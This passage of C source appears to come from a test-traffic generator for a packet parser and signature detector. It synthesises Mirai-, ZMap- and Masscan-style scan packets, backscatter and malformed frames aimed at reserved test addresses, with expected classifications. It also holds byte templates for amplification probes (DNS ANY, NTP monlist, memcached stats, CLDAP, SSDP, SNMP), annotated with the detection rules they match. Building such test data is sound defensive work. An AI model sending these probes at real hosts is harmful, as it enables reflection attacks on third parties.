    else if (s->fam == F_MIRAI) s->ttl0 = 64;
    else s->ttl0 = t < 6 ? 64 : t < 9 ? 128 : 255;
    s->hops = (uint8_t)(4 + (d >> 59));                    /* 4..35 */
    s->optstyle = (uint8_t)((d >> 8) % 5);
    rng_t tmp; rng_seed(&tmp, h, 7);
    s->pref_port = port_from(&tmp, WPICK(&tmp, ord_ports));
    s->sport_base = (uint16_t)(32768 + (d >> 40) % 28000);
    s->key = (uint32_t)mix64((uint64_t)a * 0x2545f4914f6cdd1dull);
}

/* ------------------------------------------------------------------------ */
/* edge-case kinds, each with its expected class decided here                */

enum {
    X_KEEP = 0,          /* counts as built (well formed) */
    X_NONIP,             /* non_ip */
    X_MALF,              /* malformed */
    X_L4TRUNC,           /* l4_truncated, proto as built */
    X_L4TRUNC_PROTO,     /* l4_truncated, proto = ext header where the walk stops */
};

enum {
    E_ARP, E_LLDP, E_OTHER_ETHERTYPE, E_VLAN3, E_SHORT, E_VLAN_CUT,
    E_V4_SHORT, E_V4_BADVER, E_V4_IHL_LT5, E_V4_IHL_CUT, E_V4_TOTLEN_LT_IHL, E_V4_OPTIONS,
    E_V6_SHORT, E_V6_BADVER, E_TCP_CUT, E_UDP_CUT, E_TCP_BEYOND_TOTLEN, E_UDP_BEYOND_LEN,
    E_V6_PLEN_SMALL, E_V6_EXT_PAST, E_PAD60, E_SNAP_TRUNC, E_TCP_ODD_DOFF, E_FRAG_TINY,
    E_ICMP_CUT, E_COUNT
};

static const struct { const char *name; int cls; } edge_tab[E_COUNT] = {
    [E_ARP]               = {"arp", X_NONIP},
    [E_LLDP]              = {"lldp", X_NONIP},
    [E_OTHER_ETHERTYPE]   = {"other_ethertype", X_NONIP},
    [E_VLAN3]             = {"three_vlan_tags", X_NONIP},
    [E_SHORT]             = {"frame_lt_14", X_MALF},
    [E_VLAN_CUT]          = {"vlan_tag_cut", X_MALF},
    [E_V4_SHORT]          = {"ipv4_lt_20", X_MALF},
    [E_V4_BADVER]         = {"ipv4_bad_version", X_MALF},
    [E_V4_IHL_LT5]        = {"ipv4_ihl_lt_5", X_MALF},
    [E_V4_IHL_CUT]        = {"ipv4_ihl_beyond_capture", X_MALF},
    [E_V4_TOTLEN_LT_IHL]  = {"ipv4_totlen_lt_ihl", X_MALF},
    [E_V4_OPTIONS]        = {"ipv4_options", X_KEEP},
    [E_V6_SHORT]          = {"ipv6_lt_40", X_MALF},
    [E_V6_BADVER]         = {"ipv6_bad_version", X_MALF},
    [E_TCP_CUT]           = {"tcp_header_cut", X_L4TRUNC},
    [E_UDP_CUT]           = {"udp_header_cut", X_L4TRUNC},
    [E_TCP_BEYOND_TOTLEN] = {"tcp_beyond_ipv4_totlen", X_L4TRUNC},
    [E_UDP_BEYOND_LEN]    = {"udp_beyond_ip_len", X_L4TRUNC},
    [E_V6_PLEN_SMALL]     = {"ipv6_plen_lt_tcp", X_L4TRUNC},
    [E_V6_EXT_PAST]       = {"ipv6_ext_past_end", X_L4TRUNC_PROTO},
    [E_PAD60]             = {"ethernet_padding", X_KEEP},
    [E_SNAP_TRUNC]        = {"snaplen_truncated_payload", X_KEEP},
    [E_TCP_ODD_DOFF]      = {"tcp_odd_data_offset", X_KEEP},
    [E_FRAG_TINY]         = {"tiny_nonfirst_fragment", X_KEEP},
    [E_ICMP_CUT]          = {"icmp_header_cut", X_L4TRUNC},
};

static void truth_apply_class(expect_t *e, int cls, int stop_proto)
{
    switch (cls) {
    case X_KEEP:
        CHECK(e->cat != CAT_NONE);
        break;
    case X_NONIP:
        memset(e, 0, sizeof(*e));
        e->cat = CAT_NONIP;
        break;
    case X_MALF:
        memset(e, 0, sizeof(*e));
        e->cat = CAT_MALF;
        break;
    case X_L4TRUNC:
    case X_L4TRUNC_PROTO: {
        CHECK(e->cat == CAT_V4 || e->cat == CAT_V6);
        CHECK(!e->frag);
        expect_t k = *e;                /* the IP header stays as built */
        memset(e, 0, sizeof(*e));
        e->cat = k.cat;
        e->proto = cls == X_L4TRUNC_PROTO ? (uint8_t)stop_proto : k.proto;
        e->l4 = L4_TRUNC;
        memcpy(e->src, k.src, 16);
        memcpy(e->dst, k.dst, 16);
        e->ttl = k.ttl;
        e->iplen = k.iplen;
        break;
    }
    default:
        die_internal("edge class");
    }
}

/* ------------------------------------------------------------------------ */
/* generator state                                                           */

typedef struct {
    rng_t r;                /* packet content */
    srcpool_t pool;
    bool edge;
    int edge_perm[E_COUNT];
    int edge_pos;
    uint64_t kind_count[E_COUNT];
    l2_t l2;
    spec_t sp;              /* main packet */
    spec_t inner;           /* inner packet for tunnels / ICMP quotes */
    bool no_jumbo;          /* --no-jumbo: no UDP frames over 1514 bytes */
    double payload_share;   /* --payload-share */
    uint64_t pay_cut, pay_short;    /* payload share frames cut by the capture / with a short IP length */
    uint8_t tmp[MAX_FRAME];
} gen_t;

static const uint8_t capture_mac[6] = {0x00, 0x1b, 0x21, 0xda, 0x7c, 0x01};
static const uint8_t router_macs[3][6] = {
    {0x00, 0x00, 0x5e, 0x00, 0x01, 0x01},
    {0x3c, 0xfd, 0xfe, 0x9a, 0x10, 0x22},
    {0xb4, 0x96, 0x91, 0x4e, 0x20, 0x07},
};

static uint16_t rand_tci(rng_t *r) { return (uint16_t)((rbelow(r, 8) << 13) | rrange(r, 1, 4094)); }

static void choose_l2(gen_t *g, bool allow_vlan)
{
    rng_t *r = &g->r;
    l2_t *l = &g->l2;
    memcpy(l->dmac, capture_mac, 6);
    memcpy(l->smac, router_macs[rbelow(r, 3)], 6);
    l->ntags = 0;
    if (allow_vlan && rchance(r, 0.03)) {
        uint32_t v = rbelow(r, 100);
        if (v < 65) {
            l->ntags = 1; l->tpid[0] = 0x8100;
        } else if (v < 90) {
            l->ntags = 2; l->tpid[0] = 0x88A8; l->tpid[1] = 0x8100;
        } else {
            l->ntags = 2; l->tpid[0] = 0x8100; l->tpid[1] = 0x8100;
        }
        for (int i = 0; i < l->ntags; i++) l->tci[i] = rand_tci(r);
    }
}

static void pick_src(gen_t *g, src_t *s)
{
    if (g->pool.uniform) {
        src_get(&g->pool, rbelow(&g->r, g->pool.nsrc), s);
        return;
    }
    double u = r01(&g->r);
    uint32_t idx = (uint32_t)((double)g->pool.nsrc * u * u * u);
    if (idx >= g->pool.nsrc) idx = g->pool.nsrc - 1;
    src_get(&g->pool, idx, s);
}

static void pick_src6(gen_t *g, src_t *s)
{
    if (g->pool.uniform) {
        src_get(&g->pool, rbelow(&g->r, g->pool.nsrc6), s);
        return;
    }
    double u = r01(&g->r);
    uint32_t idx = (uint32_t)((double)g->pool.nsrc6 * u * u);
    if (idx >= g->pool.nsrc6) idx = g->pool.nsrc6 - 1;
    src_get(&g->pool, idx, s);
}

static uint32_t dark4(rng_t *r) { return 0xC6120000u | rbelow(r, 1u << 17); }  /* 198.18.0.0/15 */

static void dark6(rng_t *r, uint8_t *a)
{
    static const uint8_t pfx[6] = {0x20, 0x01, 0x0d, 0xb8, 0xde, 0xad};       /* 2001:db8:dead::/48 */
    memcpy(a, pfx, 6);
    rfill(r, a + 6, 10);
    if (rchance(r, 0.5)) memset(a + 6, 0, 6);   /* many low addresses */
}

static uint8_t src_ttl(rng_t *r, const src_t *s)
{
    int t = (int)s->ttl0 - (int)s->hops - (int)rbelow(r, 3);
    return (uint8_t)(t < 1 ? 1 : t);
}

static void spec_v4(gen_t *g, const src_t *s, uint32_t dst)
{
    spec_t *sp = &g->sp;
    SPEC_RESET(sp);
    sp->ver = 4;
    sp->s4 = s->ip4;
    sp->d4 = dst;
    sp->id = r16(&g->r);
    sp->fragword = 0;
    sp->ttl = src_ttl(&g->r, s);
}

static void spec_v6(gen_t *g, const src_t *s)
{
    spec_t *sp = &g->sp;
    SPEC_RESET(sp);
    sp->ver = 6;
    memcpy(sp->s6, s->ip6, 16);
    dark6(&g->r, sp->d6);
    sp->flow = rchance(&g->r, 0.5) ? r32(&g->r) & 0xfffff : 0;
    sp->hlim = src_ttl(&g->r, s);
    sp->frag_ident = r32(&g->r);
}

/* TCP option sets */
static const uint8_t opt_mss[4] = {2, 4, 0x05, 0xb4};
static const uint8_t opt_linux[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
static const uint8_t opt_win[12] = {2, 4, 0x05, 0xb4, 1, 3, 3, 8, 1, 1, 4, 2};
static const uint8_t opt_mss_ws[8] = {2, 4, 0x05, 0x8c, 1, 3, 3, 6};

static void tcp_opts(rng_t *r, int style, const uint8_t **o, int *n)
{
    switch (style) {
    case 0: *o = opt_linux; *n = 20; break;
    case 1: *o = opt_win; *n = 12; break;
    case 2: *o = opt_mss; *n = 4; break;
    case 3: *o = opt_mss_ws; *n = 8; break;
    default: *o = NULL; *n = 0; break;
    }
    (void)r;
}

/* An IPv4 TCP SYN from a scanner, family-specific. force_port < 0: choose. */
static void fill_v4_syn(gen_t *g, const src_t *s, int force_port)
{
    rng_t *r = &g->r;
    uint32_t dst = dark4(r);
    uint16_t dport, sport, win;
    uint32_t seq;
    uint16_t id;
    const uint8_t *opt = NULL;
    int optlen = 0;
    uint8_t flags = TH_SYN;
    uint16_t fragword = 0;
    switch (s->fam) {
    case F_MIRAI:
        dport = force_port >= 0 ? (uint16_t)force_port : (uint16_t)WPICK(r, mirai_ports);
        seq = dst;
        id = r16(r);
        win = r16(r);
        sport = (uint16_t)rrange(r, 1024, 65535);
        break;
    case F_ZMAP:
        dport = force_port >= 0 ? (uint16_t)force_port
              : rchance(r, 0.6) ? s->pref_port : port_from(r, WPICK(r, ord_ports));
        seq = r32(r);
        id = 54321;
        win = 65535;
        sport = (uint16_t)rrange(r, 32768, 61000);
        if (s->optstyle >= 3) { opt = opt_mss; optlen = 4; }
        break;
    case F_MASSCAN:
        dport = force_port >= 0 ? (uint16_t)force_port
              : rchance(r, 0.6) ? s->pref_port : port_from(r, WPICK(r, ord_ports));
        seq = r32(r);
        id = (uint16_t)((dst ^ dport ^ seq) & 0xffff);
        win = 1024;
        sport = (uint16_t)(s->sport_base + rbelow(r, 4));
        if (s->optstyle == 4) { opt = opt_mss; optlen = 4; }
        break;
    default: {
        static const wv_t wins[] = {{29200, 30}, {65535, 25}, {64240, 15}, {1024, 10}, {1025, 8},
                                    {14600, 5}, {5840, 4}, {8192, 3}};
        dport = force_port >= 0 ? (uint16_t)force_port : port_from(r, WPICK(r, ord_ports));
        seq = r32(r);
        id = r16(r);
        win = (uint16_t)WPICK(r, wins);
        sport = (uint16_t)rrange(r, 1024, 65535);
        tcp_opts(r, s->optstyle, &opt, &optlen);
        if (s->ttl0 == 64 && rchance(r, 0.7)) fragword = 0x4000;   /* DF */
        uint32_t w = rbelow(r, 1000);
        if (w < 20) flags = TH_SYN | TH_ECE | TH_CWR;
        else if (w < 23) flags = TH_SYN | TH_FIN;
        else if (w < 25) flags = TH_SYN | TH_PSH;
        break;
    }
    }
    spec_v4(g, s, dst);
    g->sp.id = id;
    g->sp.fragword = fragword;
    l4_tcp(&g->sp, sport, dport, seq, 0, flags, win, opt, optlen, 0, r);
}

/* IPv4 backscatter: SYN-ACK / RST / RST-ACK from a victim's service port */
static void fill_v4_backscatter(gen_t *g, const src_t *s)
{
    rng_t *r = &g->r;
    static const wv_t sports[] = {{80, 50}, {443, 35}, {53, 15}};
    static const wv_t kinds[] = {{TH_SYN | TH_ACK, 50}, {TH_RST, 25}, {TH_RST | TH_ACK, 25}};
    static const wv_t wins[] = {{65535, 30}, {29200, 30}, {14600, 15}, {8192, 15}, {28960, 10}};
    uint32_t dst = dark4(r);
    uint16_t sport = (uint16_t)WPICK(r, sports);
    uint16_t dport = rchance(r, 0.9) ? (uint16_t)rrange(r, 1024, 65535) : (uint16_t)rrange(r, 1, 1023);
    uint8_t flags = (uint8_t)WPICK(r, kinds);
    uint32_t seq = r32(r), ack = (flags & TH_ACK) ? r32(r) : 0;
    uint16_t win = (flags & TH_SYN) ? (uint16_t)WPICK(r, wins) : 0;
    const uint8_t *opt = NULL;
    int optlen = 0;
    if ((flags & TH_SYN) && rchance(r, 0.7)) { opt = opt_mss_ws; optlen = 8; }
    spec_v4(g, s, dst);
    if (rchance(r, 0.4)) { g->sp.id = 0; g->sp.fragword = 0x4000; }
    l4_tcp(&g->sp, sport, dport, seq, ack, flags, win, opt, optlen, 0, r);
}

/* ---- payload builder (bytes plus the declarations of what they match) ---- */

typedef struct {
    uint8_t *p;
    size_t n, cap;
    sigann_t a;                 /* offsets relative to p */
} pc_t;

static void pc_init(pc_t *c, uint8_t *buf, size_t cap)
{
    c->p = buf;
    c->n = 0;
    c->cap = cap;
    memset(&c->a, 0, sizeof(c->a));
}

static void pc_mem(pc_t *c, const void *s, size_t l)
{
    CHECK(c->n + l <= c->cap);
    memmove(c->p + c->n, s, l);
    c->n += l;
}

static void pc_put(pc_t *c, const char *s) { pc_mem(c, s, strlen(s)); }

static void pc_fmt(pc_t *c, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void pc_fmt(pc_t *c, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int k = vsnprintf((char *)c->p + c->n, c->cap - c->n, fmt, ap);
    va_end(ap);
    CHECK(k >= 0 && (size_t)k < c->cap - c->n);
    c->n += (size_t)k;
}

/* rule id matches once bytes [0, hi) of this piece are scanned, not before lo */
static void pc_mark(pc_t *c, uint16_t id, size_t lo, size_t hi)
{
    CHECK(c->a.n < SIG_ANN_MAX && lo >= 1 && lo <= hi && hi <= 65535);
    c->a.m[c->a.n++] = (sigm_t){id, (uint16_t)lo, (uint16_t)hi};
}

/* append piece s, its declarations shifted */
static void pc_cat(pc_t *c, const pc_t *s)
{
    size_t off = c->n;
    pc_mem(c, s->p, s->n);
    for (int i = 0; i < s->a.n; i++) pc_mark(c, s->a.m[i].id, s->a.m[i].lo + off, s->a.m[i].hi + off);
    c->a.decoy |= s->a.decoy;
}

/* the finished payload's declarations (each checked against SIG_WITHIN) */
static void pc_done(const pc_t *c, sigann_t *a)
{
    memset(a, 0, sizeof(*a));
    for (int i = 0; i < c->a.n; i++) ann_add(a, c->a.m[i].id, c->a.m[i].lo, c->a.m[i].hi);
    a->decoy = c->a.decoy;
    ann_check(a, c->n);
}

/* w in a letter case: as written (1 - pvar of the time), else upper, lower,
 * capitalised or mixed; only for rules that are caseless there */
static void pc_case(rng_t *r, pc_t *c, const char *w, double pvar)
{
    uint32_t style = rchance(r, pvar) ? rrange(r, 1, 4) : 0;
    for (size_t i = 0; w[i]; i++) {
        char ch = w[i];
        bool up = style == 1 || (style == 3 && i == 0) || (style == 4 && rchance(r, 0.5));
        bool lo = style == 2 || (style == 3 && i > 0) || (style == 4 && !up);
        if (up && ch >= 'a' && ch <= 'z') ch = (char)(ch - 32);
        if (lo && ch >= 'A' && ch <= 'Z') ch = (char)(ch + 32);
        pc_mem(c, &ch, 1);
    }
}

static void shuffle_str(rng_t *r, const char **v, uint32_t n)
{
    for (uint32_t i = n; i > 1; i--) {
        uint32_t j = rbelow(r, i);
        const char *t = v[i - 1]; v[i - 1] = v[j]; v[j] = t;
    }
}

/* ---- UDP payloads ----
 *
 * Each template declares the default rules it matches (the table in the
 * header comment).  rich: the payload share's variants (letter case where a
 * rule is caseless, other versions, field values and header orders) and
 * decoys (near misses that match nothing); the base mix uses the plain
 * templates. */

static const char ssdp_msearch[] =
    "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n";
static const char sip_rest[] =
    "Via: SIP/2.0/UDP nm;branch=foo;rport\r\nMax-Forwards: 70\r\n"
    "To: <sip:nm@nm>\r\nFrom: <sip:nm@nm>;tag=root\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\n"
    "Contact: <sip:nm@nm>\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n";
static const uint8_t snmp_get[] = {
    0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c',
    0xa0, 0x1c, 0x02, 0x04, 0x12, 0x34, 0x56, 0x78, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00,
    0x30, 0x0e, 0x30, 0x0c, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00};
static const uint8_t cldap_search[] = {
    0x30, 0x25, 0x02, 0x01, 0x01, 0x63, 0x20, 0x04, 0x00, 0x0a, 0x01, 0x00, 0x0a, 0x01, 0x00,
    0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00, 0x87, 0x0b,
    'o', 'b', 'j', 'e', 'c', 't', 'c', 'l', 'a', 's', 's', 0x30, 0x00};
static const uint8_t nbstat[] = {
    0x80, 0xf0, 0x00, 0x10, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x20,
    'C', 'K', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A',
    'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A',
    0x00, 0x00, 0x21, 0x00, 0x01};

/* DNS query: ANY IN for a few names (1002), version.bind TXT CHAOS (1003),
 * a random label's A record (none).  Decoys: a response, two questions,
 * opcode status, ANY in class CHAOS, version.bind TXT in class IN. */
static void dns_query(rng_t *r, pc_t *c, bool rich)
{
    static const char *const names[] = {"version.bind", "example.com", "isc.org", "google.com", "", "ripe.net"};
    uint8_t h[12];
    uint16_t flags = 0x0100, qd = 1, qtype = 255, qclass = 1;   /* RD */
    put16(h, r16(r));
    bool edns = rchance(r, 0.3);
    uint32_t ni = rbelow(r, 7);
    int decoy = 0;
    if (ni == 6) qtype = 1;
    else if (ni == 0) { qtype = 16; qclass = 3; }
    if (rich && ni != 6 && rchance(r, 0.3)) {
        decoy = ni == 0 ? 4 : (int)rrange(r, 1, 4);
        if (decoy == 1) flags = 0x8180;                 /* a response */
        else if (decoy == 2) qd = 2;
        else if (decoy == 3) flags = 0x1100;            /* opcode 2 (status) */
        else qclass = ni == 0 ? 1 : 3;                  /* the other class */
    }
    put16(h + 2, flags); put16(h + 4, qd); put16(h + 6, 0); put16(h + 8, 0); put16(h + 10, edns);
    pc_mem(c, h, 12);
    size_t qs = c->n;
    if (ni == 6) {                                      /* random label */
        uint8_t l[16];
        uint32_t n = rrange(r, 4, 12);
        l[0] = (uint8_t)n;
        for (uint32_t i = 0; i < n; i++) l[1 + i] = (uint8_t)('a' + rbelow(r, 26));
        pc_mem(c, l, n + 1);
        pc_mem(c, "\003com", 4);
    } else {
        const char *nm = names[ni];
        while (*nm) {
            const char *dot = strchr(nm, '.');
            size_t l = dot ? (size_t)(dot - nm) : strlen(nm);
            uint8_t lb = (uint8_t)l;
            pc_mem(c, &lb, 1);
            pc_mem(c, nm, l);
            nm += l + (dot ? 1 : 0);
        }
    }
    uint8_t q[5] = {0};
    put16(q + 1, qtype); put16(q + 3, qclass);
    pc_mem(c, q, 5);
    size_t qend = c->n;
    if (qd == 2) pc_mem(c, c->p + qs, qend - qs);
    if (edns) {
        static const uint8_t opt[11] = {0, 0, 41, 0x10, 0x00, 0, 0, 0, 0, 0, 0};
        pc_mem(c, opt, 11);
    }
    if (decoy || ni == 6) c->a.decoy = 1;
    else pc_mark(c, ni == 0 ? 1003 : 1002, qend, c->n);
}

/* NTP: mode 3 client, 48 bytes (1005); mode 7 MON_GETLIST_1, 8 or 48 bytes
 * (1004).  Rich: versions 1-4 and leap bits, a transmit timestamp, mode 7
 * versions and implementations.  Decoys: 40-byte mode 3, version 0 or 5,
 * mode 4, another request code, implementation 0. */
static void ntp_req(rng_t *r, pc_t *c, bool rich)
{
    uint8_t b[48];
    int decoy = 0;
    memset(b, 0, sizeof(b));
    if (rchance(r, 0.7)) {
        static const uint8_t vn[4] = {0x0b, 0x13, 0x1b, 0x23};
        size_t n = 48;
        b[0] = 0x1b;
        if (rich) {
            b[0] = (uint8_t)(vn[rbelow(r, 4)] | rbelow(r, 4) << 6);
            rfill(r, b + 40, 8);
            if (rchance(r, 0.25)) {
                decoy = (int)rrange(r, 1, 3);
                if (decoy == 1) n = 40;
                else if (decoy == 2) b[0] = (uint8_t)((b[0] & 0xc0) | (rchance(r, 0.5) ? 0x03 : 0x2b));
                else b[0] = (uint8_t)((b[0] & 0xf8) | 4);
            }
        }
        pc_mem(c, b, n);
        if (decoy) c->a.decoy = 1;
        else pc_mark(c, 1005, 48, 48);
        return;
    }
    static const uint8_t m7[3] = {0x17, 0x1f, 0x27};
    b[0] = 0x17; b[2] = 0x03; b[3] = 0x2a;
    if (rich) {
        b[0] = m7[rbelow(r, 3)];
        b[2] = (uint8_t)rrange(r, 2, 3);
        if (rchance(r, 0.25)) {
            decoy = 1;
            if (rchance(r, 0.5)) b[3] = 0x14; else b[2] = 0;
        }
    }
    pc_mem(c, b, rchance(r, 0.5) ? 8 : 48);
    if (decoy) c->a.decoy = 1;
    else pc_mark(c, 1004, 4, 8);
}

/* SSDP M-SEARCH (1006); rich: header order, MX, ST; decoy: NOTIFY */
static void ssdp_req(rng_t *r, pc_t *c, bool rich)
{
    static const char *const st[] = {"ssdp:all", "upnp:rootdevice", "urn:dial-multiscreen-org:service:dial:1",
                                     "urn:schemas-upnp-org:device:InternetGatewayDevice:1"};
    if (!rich) {
        pc_put(c, ssdp_msearch);
        pc_mark(c, 1006, 19, 21);
        return;
    }
    if (rchance(r, 0.15)) {
        pc_put(c, "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\n"
                  "LOCATION: http://192.168.1.1:5000/rootDesc.xml\r\n\r\n");
        c->a.decoy = 1;
        return;
    }
    char mx[16], sth[80];
    snprintf(mx, sizeof(mx), "MX: %u", rrange(r, 1, 5));
    snprintf(sth, sizeof(sth), "ST: %s", st[rbelow(r, 4)]);
    const char *h[4] = {"HOST: 239.255.255.250:1900", "MAN: \"ssdp:discover\"", mx, sth};
    shuffle_str(r, h, 4);
    pc_put(c, "M-SEARCH * HTTP/1.1\r\n");
    pc_mark(c, 1006, 19, 21);
    for (int i = 0; i < 4; i++) pc_fmt(c, "%s\r\n", h[i]);
    pc_put(c, "\r\n");
}

/* SIP OPTIONS (1001, method caseless); rich: method case, target, user
 * agent; decoys: REGISTER, INVITE */
static void sip_req(rng_t *r, pc_t *c, bool rich)
{
    static const char *const ua[] = {"friendly-scanner", "sipsak 0.9.6", "sipcli/v1.8", "pplsip", "VaxSIPUserAgent/3.1"};
    const char *method = "OPTIONS";
    bool decoy = rich && rchance(r, 0.15);
    if (decoy) method = rchance(r, 0.5) ? "REGISTER" : "INVITE";
    if (rich && !decoy) pc_case(r, c, method, 0.5);
    else pc_put(c, method);
    pc_put(c, " sip:");
    size_t lo = c->n;
    if (rich) pc_fmt(c, "%u@%u.%u.%u.%u", rrange(r, 100, 9999), rrange(r, 1, 223), rbelow(r, 256), rbelow(r, 256),
                     rrange(r, 1, 254));
    else pc_put(c, "nm");
    pc_put(c, " SIP/2.0\r\n");
    if (decoy) c->a.decoy = 1;
    else pc_mark(c, 1001, lo, c->n);
    if (rich) pc_fmt(c, "User-Agent: %s\r\n", ua[rbelow(r, 5)]);
    pc_put(c, sip_rest);
}

/* memcached over UDP: frame header then stats (1007); rich: stats
 * subcommands, get, gets; decoy: version */
static void memc_req(rng_t *r, pc_t *c, bool rich)
{
    static const char *const sub[] = {" items", " slabs", " settings"};
    uint8_t h[8] = {0, 1, 0, 0, 0, 1, 0, 0};
    put16(h, r16(r));
    pc_mem(c, h, 8);
    uint32_t k = rich ? rbelow(r, 6) : 0;
    size_t lo;
    switch (k) {
    case 1: pc_put(c, "stats"); lo = c->n; pc_put(c, sub[rbelow(r, 3)]); break;
    case 2: pc_put(c, "get "); lo = c->n; pc_fmt(c, "k%u", rbelow(r, 100000)); break;
    case 3: pc_put(c, "gets "); lo = c->n; pc_fmt(c, "k%u", rbelow(r, 100000)); break;
    case 4: pc_put(c, "version\r\n"); c->a.decoy = 1; return;
    default: pc_put(c, "stats"); lo = c->n; break;
    }
    pc_put(c, "\r\n");
    pc_mark(c, 1007, lo, c->n);
}

/* SNMP GetRequest, community public (1010); rich: v1/v2c, GetNext,
 * GetBulk; decoys: community secret, SetRequest, version 3 */
static void snmp_req(rng_t *r, pc_t *c, bool rich)
{
    static const uint8_t pdu[3] = {0xa0, 0xa1, 0xa5};
    uint8_t b[sizeof(snmp_get)];
    bool decoy = false;
    memcpy(b, snmp_get, sizeof(b));
    put32(b + 17, r32(r));
    if (rich) {
        b[4] = (uint8_t)rbelow(r, 2);
        b[13] = pdu[rbelow(r, b[4] ? 3 : 2)];
        if (rchance(r, 0.25)) {
            decoy = true;
            uint32_t k = rbelow(r, 3);
            if (k == 0) memcpy(b + 7, "secret", 6);
            else if (k == 1) b[13] = 0xa3;
            else b[4] = 3;
        }
    }
    pc_mem(c, b, sizeof(b));
    if (decoy) c->a.decoy = 1;
    else pc_mark(c, 1010, 14, sizeof(b));
}

/* CLDAP rootDSE search (1008); rich: message id; decoy: scope subtree */
static void cldap_req(rng_t *r, pc_t *c, bool rich)
{
    uint8_t b[sizeof(cldap_search)];
    bool decoy = false;
    memcpy(b, cldap_search, sizeof(b));
    if (rich) {
        b[4] = (uint8_t)rrange(r, 1, 127);
        if (rchance(r, 0.2)) { b[11] = 2; decoy = true; }
    }
    pc_mem(c, b, sizeof(b));
    if (decoy) c->a.decoy = 1;
    else pc_mark(c, 1008, 12, sizeof(b));
}

/* WS-Discovery Probe (1009), the element within the first 200 bytes; rich:
 * namespace prefix (or none), Types; decoys: "<:/>", Resolve */
static void wsd_req(rng_t *r, pc_t *c, bool rich)
{
    static const char *const pfx[] = {"wsd", "d", "dn", ""};
    static const char ns[] = "http://schemas.xmlsoap.org/ws/2005/04/discovery";
    const char *p = rich ? pfx[rbelow(r, 4)] : "wsd";
    const char *colon = *p ? ":" : "";
    if (rich && rchance(r, 0.15)) {
        if (rchance(r, 0.5)) pc_put(c, "<:/>");
        else pc_fmt(c, "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:wsd=\"%s\">"
                       "<soap:Body><wsd:Resolve><wsd:Address>urn:uuid:%08x</wsd:Address></wsd:Resolve>"
                       "</soap:Body></soap:Envelope>", ns, r32(r));
        c->a.decoy = 1;
        return;
    }
    pc_put(c, "<?xml version=\"1.0\" encoding=\"utf-8\"?>"
              "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"");
    if (*p) pc_fmt(c, " xmlns:%s=\"%s\"", p, ns);
    pc_fmt(c, "><soap:Body><%s%sProbe", p, colon);
    size_t lo = c->n;
    if (!*p) pc_fmt(c, " xmlns=\"%s\"", ns);
    if (rich && rchance(r, 0.3)) pc_fmt(c, "><%s%sTypes>NetworkVideoTransmitter</%s%sTypes></%s%sProbe>", p, colon, p, colon,
                                        p, colon);
    else pc_put(c, "/>");
    pc_mark(c, 1009, lo, lo + 1);
    pc_put(c, "</soap:Body></soap:Envelope>");
}

/* NetBIOS NBSTAT for "*" (1011); decoy: an NB (0x20) query */
static void nbstat_req(rng_t *r, pc_t *c, bool rich)
{
    uint8_t b[sizeof(nbstat)];
    bool decoy = false;
    memcpy(b, nbstat, sizeof(b));
    put16(b, r16(r));
    if (rich && rchance(r, 0.2)) { b[47] = 0x20; decoy = true; }
    pc_mem(c, b, sizeof(b));
    if (decoy) c->a.decoy = 1;
    else pc_mark(c, 1011, 48, 50);
}

enum { U_DNS, U_NTP, U_SSDP, U_SIP, U_MEMC, U_SNMP, U_CLDAP, U_WSD, U_NBSTAT, U_CHARGEN, U_RANDOM, U_KINDS };

/* the template a UDP probe to dport carries; every port some UDP rule
 * filters on has one, so random bytes only go to other ports */
static int udp_kind(uint16_t dport)
{
    switch (dport) {
    case 53: return U_DNS;
    case 123: return U_NTP;
    case 1900: return U_SSDP;
    case 5060: case 5061: return U_SIP;
    case 11211: return U_MEMC;
    case 161: return U_SNMP;
    case 389: return U_CLDAP;
    case 3702: return U_WSD;
    case 137: return U_NBSTAT;
    case 19: return U_CHARGEN;
    default: return U_RANDOM;
    }
}

/* a UDP payload of one kind; returns its length (written to buf, at most
 * 1024 bytes) and its declarations */
static size_t udp_template(rng_t *r, int kind, bool rich, uint8_t *buf, sigann_t *ann)
{
    pc_t c;
    pc_init(&c, buf, 1024);
    switch (kind) {
    case U_DNS: dns_query(r, &c, rich); break;
    case U_NTP: ntp_req(r, &c, rich); break;
    case U_SSDP: ssdp_req(r, &c, rich); break;
    case U_SIP: sip_req(r, &c, rich); break;
    case U_MEMC: memc_req(r, &c, rich); break;
    case U_SNMP: snmp_req(r, &c, rich); break;
    case U_CLDAP: cldap_req(r, &c, rich); break;
    case U_WSD: wsd_req(r, &c, rich); break;
    case U_NBSTAT: nbstat_req(r, &c, rich); break;
    case U_CHARGEN: pc_mem(&c, "\001", 1); break;
    case U_RANDOM: {
        size_t n = rbelow(r, 49);
        rfill(r, buf, n);
        c.n = n;
        break;
    }
    default: die_internal("udp template");
    }
    pc_done(&c, ann);
    return c.n;
}

static const wv_t udp_ports[] = {
    {53, 200}, {123, 120}, {1900, 100}, {5060, 100}, {11211, 60}, {161, 80}, {389, 60}, {3702, 50},
    {137, 30}, {19, 15}, {0, 3}, {65536, 182},
};

/* payload for a UDP probe to dport (the base mix's plain templates) */
static size_t udp_payload(rng_t *r, uint16_t dport, uint8_t *buf, sigann_t *ann)
{
    int k = udp_kind(dport);
    CHECK(k != U_RANDOM || !udp_rule_port(dport));
